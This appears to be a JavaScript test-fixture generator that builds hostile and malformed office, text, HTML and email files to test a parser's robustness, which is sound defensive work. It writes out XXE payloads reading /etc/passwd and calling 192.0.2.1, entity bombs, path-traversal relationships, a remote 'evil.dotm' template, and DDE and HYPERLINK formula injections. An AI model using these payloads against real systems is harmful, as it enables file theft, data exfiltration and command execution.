// XML and text: entity bombs, external entities, depths, lengths, counts out of range.
import {
  docxParts,
  ofdParts,
  pack,
  paragraph,
  pptxParts,
  rels,
  sharedStrings,
  wordDocument,
  workbook,
  worksheet,
  xlsxParts,
} from "./office.mjs";
import { samples } from "./samples.mjs";

const laughs = (() => {
  const levels = Array.from({ length: 12 }, (_, index) => `<!ENTITY l${index + 1} "${`&l${index};`.repeat(10)}">`);
  return `<!DOCTYPE x [<!ENTITY l0 "哈">${levels.join("")}]>`;
})();
const quadratic = `<!DOCTYPE x [<!ENTITY l12 "${"哈".repeat(100_000)}">]>`;
const external = (target) => `<!DOCTYPE x [<!ENTITY l12 SYSTEM "${target}">]>`;
const parameter = '<!DOCTYPE x [<!ENTITY % p SYSTEM "file:///etc/passwd"><!ENTITY % q "<!ENTITY l12 \'%p;\'>">%q;]>';

const doctypes = {
  实体炸弹: [laughs, "&l12;"],
  实体平方: [quadratic, "&l12;".repeat(2000)],
  外部实体: [external("file:///etc/passwd"), "&l12;"],
  外部实体设备: [external("file:///dev/random"), "&l12;"],
  外部实体网址: [external("http://192.0.2.1/x.dtd"), "&l12;"],
  参数实体: [parameter, "&l12;"],
};

/** The same doctype in a part of each format. */
function entityFiles([what, [doctype, use]]) {
  const text = wordDocument(paragraph("演练方案@@"), doctype).replace("@@", use);
  const strings = sharedStrings(["演练@@", "企业"], doctype).replace("@@", use);
  const ofd = ofdParts([["演练@@"]]);
  const page = "Doc_0/Pages/Page_0/Content.xml";
  return [
    { path: `实体/${what}.docx`, data: pack(docxParts([], { "word/document.xml": text })) },
    { path: `实体/${what}.xlsx`, data: pack(xlsxParts([["演练", "企业"]], { "xl/sharedStrings.xml": strings })) },
    { path: `实体/${what}.ofd`, data: pack({ ...ofd, [page]: ofd[page].replace("?>\n", `?>\n${doctype}`).replace("@@", use) }) },
    {
      path: `实体/${what}-关系.docx`,
      data: pack(
        docxParts(["通知"], {
          "_rels/.rels": doctype + rels([{ type: "officeDocument", target: "word/document.xml" }]).replace("word/", `${use}word/`),
        }),
      ),
    },
  ].map((file) => ({ ...file, why: what }));
}

const deep = (open, close, depth, inside) => `${open.repeat(depth)}${inside}${close.repeat(depth)}`;
const cell = (reference, inner, type = "s") => `<c r="${reference}" t="${type}"><v>${inner}</v></c>`;
const oneSheet = (inner, dimension = "A1:B2") =>
  pack(xlsxParts([["甲", "乙"]], { "xl/worksheets/sheet1.xml": worksheet(inner, dimension) }));

function* sheets() {
  const many = Array.from({ length: 65_535 }, (_, index) => ({ name: `第${index}表`, id: 1 }));
  yield ["65535张表.xlsx", "声明 65,535 张表", pack(xlsxParts([["甲"]], { "xl/workbook.xml": workbook(many) }))];
  yield [
    "一百七十亿格.xlsx",
    "范围声明 A1:XFD1048576",
    oneSheet(`<sheetData><row r="1">${cell("A1", 0)}</row><row r="1048576">${cell("XFD1048576", 1)}</row></sheetData>`, "A1:XFD1048576"),
  ];
  yield [
    "共享字串越界.xlsx",
    "序号 4294967295、负数、小数",
    oneSheet(
      `<sheetData><row r="1">${["4294967295", "-1", "1.5", "NaN", "__proto__", ""].map((value, index) => cell(`${"ABCDEF"[index]}1`, value)).join("")}</row></sheetData>`,
    ),
  ];
  yield [
    "格子地址越界.xlsx",
    "地址 ZZZZZZZ99999999999",
    oneSheet(
      `<sheetData><row r="99999999999">${["ZZZZZZZ99999999999", "A0", "1A", "", "A-1"].map((at) => cell(at, 0)).join("")}</row></sheetData>`,
    ),
  ];
  yield [
    "合并单元格上亿.xlsx",
    "合并 A1:XFD1048576 一万次",
    oneSheet(
      `<sheetData><row r="1">${cell("A1", 0)}</row></sheetData><mergeCells>${'<mergeCell ref="A1:XFD1048576"/>'.repeat(10_000)}</mergeCells>`,
    ),
  ];
  yield [
    "一百万空行.xlsx",
    "一百万个空行",
    oneSheet(`<sheetData>${Array.from({ length: 1_000_000 }, (_, index) => `<row r="${index + 1}"/>`).join("")}</sheetData>`),
  ];
  yield ["一行两百万格.xlsx", "同一行重复两百万格", oneSheet(`<sheetData><row r="1">${cell("A1", 0).repeat(2_000_000)}</row></sheetData>`)];
  yield [
    "关系指向自己.xlsx",
    "工作表就是工作簿本身",
    pack(
      xlsxParts([["甲"]], {
        "xl/_rels/workbook.xml.rels": rels([
          { type: "worksheet", target: "workbook.xml" },
          { type: "sharedStrings", target: "../../../../etc/passwd" },
        ]),
      }),
    ),
  ];
  yield [
    "没有关系.xlsx",
    "缺关系部件",
    pack(Object.fromEntries(Object.entries(xlsxParts([["甲"]])).filter(([name]) => !name.endsWith(".rels")))),
  ];
}

function* documents() {
  yield [
    "套十万层.docx",
    "表格里套表格，十万层",
    pack(
      docxParts([], { "word/document.xml": wordDocument(deep("<w:tbl><w:tr><w:tc>", "</w:tc></w:tr></w:tbl>", 100_000, paragraph("底"))) }),
    ),
  ];
  yield [
    "套十万层没有收口.docx",
    "十万个开始标记",
    pack(docxParts([], { "word/document.xml": wordDocument("<w:p><w:r>".repeat(100_000)) })),
  ];
  yield ["套十万层.ofd", "十万层元素", pack({ ...ofdParts([["甲"]]), "Doc_0/Document.xml": deep("<a>", "</a>", 100_000, "") })];
  yield [
    "十万个属性.docx",
    "一个元素十万个属性",
    pack(
      docxParts([], {
        "word/document.xml": wordDocument(
          `<w:p ${Array.from({ length: 100_000 }, (_, index) => `a${index}="1"`).join(" ")}>${paragraph("甲").slice(5)}`,
        ),
      }),
    ),
  ];
  yield [
    "标记没有收口.docx",
    "属性引号没有收口",
    pack(docxParts([], { "word/document.xml": `${wordDocument(paragraph("甲")).slice(0, 200)}<w:p a="${"<".repeat(2_000_000)}` })),
  ];
  yield ["一段三千万字.docx", "一个段落 3,000 万字", pack(docxParts(["安全".repeat(15_000_000)]))];
  yield ["一百万段.docx", "一百万个段落", pack(docxParts([], { "word/document.xml": wordDocument(paragraph("安").repeat(1_000_000)) }))];
  yield [
    "字符引用越界.docx",
    "&#x0; &#xFFFFFFFF; &#xD800;",
    pack(
      docxParts([], {
        "word/document.xml": wordDocument(
          "<w:p><w:r><w:t>&#0;&#x1b;[2J&#xFFFFFFFF;&#99999999999999;&#xD800;&bad;&amp;amp; ]]&gt; &</w:t></w:r></w:p>",
        ),
      }),
    ),
  ];
  yield [
    "外部模板.docx",
    "设置里引用网上的模板",
    pack(
      docxParts(["通知"], {
        "word/_rels/settings.xml.rels": rels([{ type: "attachedTemplate", target: "http://192.0.2.1/evil.dotm", external: true }]),
      }),
    ),
  ];
  yield ["带宏.docm", "带 VBA", pack(docxParts(["通知"], { "word/vbaProject.bin": "macro" })), ["macros"]];
  yield ["带宏改名.docx", "带 VBA 而扩展名是 docx", pack(docxParts(["通知"], { "word/vbaProject.bin": "macro" })), ["macros"]];
  yield ["带宏.xlsm", "带 VBA", pack(xlsxParts([["甲"]], { "xl/vbaProject.bin": "macro" })), ["macros"]];
  yield ["没有正文.docx", "只有目录部件", pack({ "[Content_Types].xml": docxParts([])["[Content_Types].xml"] })];
  yield [
    "页面指向自己.ofd",
    "页面部件就是文档部件",
    pack(
      Object.fromEntries(
        Object.entries(ofdParts([["甲"]])).map(([name, text]) => [name, text.replace("Pages/Page_0/Content.xml", "Document.xml")]),
      ),
    ),
  ];
  yield [
    "页面跳出.ofd",
    "页面在 ../../../../etc/passwd",
    pack(
      Object.fromEntries(
        Object.entries(ofdParts([["甲"]])).map(([name, text]) => [
          name,
          text.replace("Pages/Page_0/Content.xml", "../../../../etc/passwd"),
        ]),
      ),
    ),
  ];
  yield [
    "五万页.ofd",
    "同一页列五万次",
    pack(
      Object.fromEntries(
        Object.entries(ofdParts([["甲"]])).map(([name, text]) => [
          name,
          text.replace(/<ofd:Page ID="1"[^>]*>/, (tag) => tag.repeat(50_000)),
        ]),
      ),
    ),
  ];
  yield ["两万张片子.pptx", "两万张空片", pack(pptxParts(Array.from({ length: 20_000 }, () => ["甲"])))];
}

const formulas = ['=HYPERLINK("http://192.0.2.1/?"&A1,"点我")', "+1+1", "-2+3", "@SUM(1,1)", "\t=1+1", "=cmd|' /C calc'!A0"];

function* texts() {
  const row = Buffer.from("安全生产".repeat(256));
  yield ["一行一百兆.txt", "100 MB，没有换行", Buffer.concat(Array.from({ length: 34_133 }, () => row))];
  yield ["一行一百兆.csv", "20 MB 一行，全是逗号", Buffer.alloc(20 * 2 ** 20, 0x2c)];
  yield ["引号没有收口.csv", "引号没有收口", Buffer.from(`"${"甲,乙\n".repeat(200_000)}`)];
  yield ["全是换行.txt", "两千万个换行", Buffer.alloc(20_000_000, 0x0a)];
  yield ["半个汉字.txt", "UTF-8 末尾半个汉字", Buffer.from("安全生产").subarray(0, 11)];
  yield ["全是零.txt", "一兆零字节", Buffer.alloc(2 ** 20)];
  yield ["随机.txt", "随机字节", Buffer.from(Array.from({ length: 65_536 }, (_, index) => (index * index * 31 + index * 7) & 255))];
  yield [
    "终端控制.txt",
    "正文里有终端控制符",
    "关于\u001b]0;改标题\u0007开展\u001b[2J安全检查的通知\n东安委〔2024〕6号\u202E\n2024年3月5日\n",
  ];
  yield ["公式标题.txt", "标题就是公式", `${formulas[0]}\n${formulas.slice(1).join("\n")}\n`];
  yield ["公式标题.docx", "标题就是公式", pack(docxParts([formulas[5], formulas[0]]))];
  yield ["公式.csv", "每格都是公式", `${formulas.map((text) => `"${text.replaceAll('"', '""')}"`).join(",")}\n`];
  yield ["套十万层.html", "十万层 div", deep("<div>", "</div>", 100_000, "甲")];
  yield ["标记没有收口.html", "百万个 <", `<html><body>${"<".repeat(1_000_000)}`];
  yield ["注释没有收口.html", "十万个 <!--", `<html>${"<!--".repeat(100_000)}`];
  yield ["带脚本.html", "脚本和外部图片", "<html><script>while(1){}</script><img src=http://192.0.2.1/x><body>通知</body></html>"];
  yield [
    "套一千层.eml",
    "多部分邮件套一千层",
    `${Array.from({ length: 1000 }, (_, index) => `Content-Type: multipart/mixed; boundary="b${index}"\r\n\r\n--b${index}\r\n`).join("")}\r\n底\r\n`,
  ];
  yield ["邮件头百万行.eml", "百万行邮件头", `From: a@b\r\nSubject: x\r\n${"X-A: b\r\n".repeat(1_000_000)}\r\n底`];
  yield ["编码词没有收口.eml", "编码词没有收口", `From: a@b\r\nSubject: ${"=?utf-8?B?".repeat(100_000)}\r\n\r\n底`];
  yield [
    "附件是炸弹.eml",
    "附件 40 MB 空白",
    `From: a@b\r\nSubject: x\r\nContent-Type: multipart/mixed; boundary=b\r\n\r\n--b\r\nContent-Type: application/zip\r\nContent-Transfer-Encoding: base64\r\n\r\n${"ICAg\r\n".repeat(7_000_000)}--b--\r\n`,
  ];
  yield ["登录页.pdf", "其实是登录网页", samples.html.make().bytes, ["misnamed"]];
  yield ["登录页.xls", "其实是网页", samples.html.make().bytes];
  yield ["其实是docx.pdf", "扩展名不对", samples.docx.make().bytes, ["misnamed"]];
  yield ["其实是pdf.docx", "扩展名不对", samples.pdf.make().bytes, ["misnamed"]];
  yield ["其实是图片.docx", "扩展名不对", samples.png.make().bytes, ["misnamed"]];
  yield ["没有扩展名", "没有扩展名的 pdf", samples.pdf.make().bytes];
  yield ["程序.exe.docx", "可执行程序", Buffer.concat([Buffer.from("MZ"), Buffer.alloc(4096)])];
}

const inFolder = (folder, rows) => ({
  *[Symbol.iterator]() {
    for (const [name, why, data, codes] of rows)
      yield { path: `${folder}/${name}`, why, data: typeof data === "string" ? Buffer.from(data) : data, codes };
  },
});

export function* markup() {
  for (const entry of Object.entries(doctypes)) yield* entityFiles(entry);
  yield* inFolder("表格", sheets());
  yield* inFolder("文稿", documents());
  yield* inFolder("文本", texts());
}
